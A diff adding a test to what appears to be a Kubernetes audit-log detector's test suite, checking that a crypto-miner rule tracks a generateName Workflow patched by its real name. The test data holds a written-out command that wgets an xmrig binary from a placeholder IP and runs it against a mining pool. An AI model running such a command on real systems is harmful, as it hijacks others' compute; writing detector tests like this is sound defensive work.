@@ -81,6 +81,17 @@ describe('objects created with generateName', () => {
     assert.doesNotMatch(miner?.evidence.join('\n') ?? '', /generateName/);
   });
 
+  test('a Workflow created by generateName, then patched by its real name: the patch is applied to it', async () => {
+    const sent = { apiVersion: 'argoproj.io/v1alpha1', kind: 'Workflow', metadata: { generateName: 'train-', namespace: 'ns1' }, spec: { entrypoint: 'main', templates: [{ name: 'main', container: { image: 'python:3.11', command: ['python', '-c', 'print(1)'] } }] } };
+    const events = [
+      auditEvent({ verb: 'create', resource: 'workflows', apiGroup: 'argoproj.io', apiVersion: 'v1alpha1', namespace: 'ns1', requestObject: sent, responseObject: stored(sent, 'train-z9k2m') }),
+      auditEvent({ verb: 'patch', resource: 'workflows', apiGroup: 'argoproj.io', apiVersion: 'v1alpha1', namespace: 'ns1', name: 'train-z9k2m', requestObject: [{ op: 'replace', path: '/spec/templates/0/container/command', value: ['sh', '-c', 'wget -q http://198.51.100.9/x/xmrig -O /tmp/x && /tmp/x -o stratum+tcp://pool.supportxmr.com:443'] }] }),
+    ];
+    const miner = (await json(writeLog(events))).findings.find((f) => f.ruleId === 'crypto-miner-workload');
+    assert.equal(miner?.resource.name, 'train-z9k2m');
+    assert.doesNotMatch(miner?.evidence.join('\n') ?? '', /patch body alone/);
+  });
+
   test('a KubeRay worker pod created by generateName, then exec into by its real name: its creation is found', async () => {
     const pod = { apiVersion: 'v1', kind: 'Pod', metadata: { generateName: 'raycluster-kuberay-worker-', namespace: 'ray', labels: { 'ray.io/node-type': 'worker', 'ray.io/cluster': 'raycluster-kuberay' } }, spec: { containers: [{ name: 'ray-worker', image: 'rayproject/ray:2.9.0' }] } };
     const events = [
